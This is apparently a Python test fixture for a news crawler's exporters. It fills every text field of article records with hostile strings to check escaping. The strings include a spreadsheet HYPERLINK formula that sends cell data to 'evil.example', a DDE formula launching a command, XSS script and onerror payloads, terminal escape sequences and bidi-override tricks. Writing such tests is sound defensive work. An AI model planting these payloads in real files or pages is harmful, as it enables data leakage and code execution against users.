"""Records with everything in every field that a spreadsheet, a terminal or a renderer could take for something else."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from pathlib import Path

from newscrawler.model.article import (
    Article,
    DateEvidence,
    Dates,
    Discovery,
    Entry,
    Http,
    Image,
    Rights,
)
from tests.makers import NOW, article

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1-2",
    "-3+4",
    "@SUM(1;2)",
    "\t=1+1",
    "  =1+1",
    "＝1+1",
    "'quoted in front",
    'one, two; three\tfour "five"',
    'ends with a quote"',
    "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "![a](https://evil.example/p.png) [b](javascript:alert(1)) `c` *d* _e_ ~~f~~",
    "# not a heading\n> not a quote\n- not a list\n1. nor this\n---\n===\n    nor code",
    "| a | b |\n|---|---|\n| c | d |",
    "&lt;b&gt; &amp; {{ site.title }} {% raw %}",
    "red \x1b[31m title \x1b]0;owned\x07 bell \x07 null \x00 end",
    "\u202egnp.exe\u2066 isolated \u200b\ufeff\u2028line\u0085next\u009b31m",
    "carriage\rreturn",
    "written as escapes: \\u202e \\u005c \\\\u202e \\n \\x1b",
    "Persian می\u200cروم, 中文, 𝕬𝖘𝖙𝖗𝖆𝖑 😀, combining e\u0301",
    "---\ntitle: injected\n---",
)
"""Texts without white space at their ends or empty lines, which no text of a record has."""

HUGE = "long word " * 60_000
"""More than a spreadsheet's cell (32,767 characters) and the csv module's limit for a field (131,072) hold."""

TEHRAN = timezone(timedelta(hours=3, minutes=30))


def hostile(number: int, text: str) -> Article:
    """A record in which every field that holds a page's text holds `text`."""
    return article(
        number,
        url=f"https://plain.example/news/story-{number}",
        revision=1,
        run=text,
        aliases=(text, text),
        section=text,
        language="fa",
        title=text,
        standfirst=text,
        text=text,
        entries=(Entry(published=NOW.astimezone(TEHRAN), title=text, text=text), Entry(text=text)),
        authors=(text, "Ada Quill"),
        agency=text,
        published=datetime(2026, 11, 2, 8, 15, 0, number, tzinfo=TEHRAN),
        dates=Dates(published=DateEvidence(raw=text, source=text, precision="second", zone_from="stated")),
        first_seen=NOW,
        tags=(text, ""),
        image=Image(url=text, caption=text),
        word_count=number,
        is_free=bool(number % 2),
        cluster=text,
        changed=(text,),
        found_by=Discovery(source=text, url=text),
        provenance={text: text, "title": "h1"},
        warnings=(text,),
        rights=Rights(licence=text, tdm=True),
        http=Http(status=200, final_url=text),
        extractor={text: text},
    )


def corpus() -> list[Article]:
    """Hostile records, a huge one, and one with as little as a record can have."""
    records = [hostile(number, text) for number, text in enumerate(HOSTILE, 1)]
    return [*records, article(90, text=HUGE.strip()), article(91, published=None, fetched_at=None)]


def put(file: Path, *articles: Article) -> Path:
    """Write a part."""
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(b"".join(a.to_json() + b"\n" for a in articles))
    return file
